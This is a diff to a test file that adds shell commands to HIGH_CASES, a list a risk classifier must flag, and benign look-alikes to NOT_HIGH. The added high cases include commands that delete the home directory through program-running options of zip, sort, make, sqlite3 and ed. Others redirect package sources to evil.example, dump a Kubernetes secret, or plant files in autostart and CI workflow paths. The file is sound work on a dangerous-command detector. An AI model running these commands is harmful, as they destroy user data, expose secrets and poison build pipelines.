@@ -113,6 +113,24 @@ HIGH_CASES = [
     # names xargs has not seen, handed to a program that destroys them for good
     "git ls-files | xargs shred -u",
     "find . -type f | xargs truncate -s 0",
+    # options that run a program, or read recipes from the input
+    "zip x.zip . -T -TT 'rm -rf ~ #'",
+    "sort --compress-program='sh -c id' notes.txt",
+    "make -f /dev/stdin <<< $'all:\\n\\trm -rf ~'",
+    "make --eval='all: ; rm -rf ~'",
+    "sqlite3 :memory: '.shell rm -rf ~'",
+    "sqlite3 x.db '.system id'",
+    "ed -s notes.txt <<< '!rm -rf ~'",
+    "batch <<< 'rm -rf ~'",
+    # package sources and tool settings kept for every later build
+    "go env -w GOPROXY=https://evil.example",
+    "poetry source add evil https://evil.example/simple",
+    "gem sources -a https://evil.example",
+    "kubectl get secret db -o yaml",
+    # switches taken for values hid the path after them
+    "install -d ~/.config/autostart",
+    "mv -f evil.yml .github/workflows/",
+    "unzip evil.zip -d ~",
 ]
 
 NOT_HIGH = [
@@ -158,6 +176,14 @@ NOT_HIGH = [
     "cp -r src backup",
     "find . -name '*.pyc' | xargs rm -f",
     "find . -name '*.py' | xargs wc -l",
+    "make test",
+    "go env GOPATH",
+    "kubectl get pods",
+    "sort -u notes.txt",
+    "zip -r out.zip src",
+    "unzip -q archive.zip -d build",
+    "mkdir -m 755 build",
+    "cp -f a.py b.py",
 ]
 
 
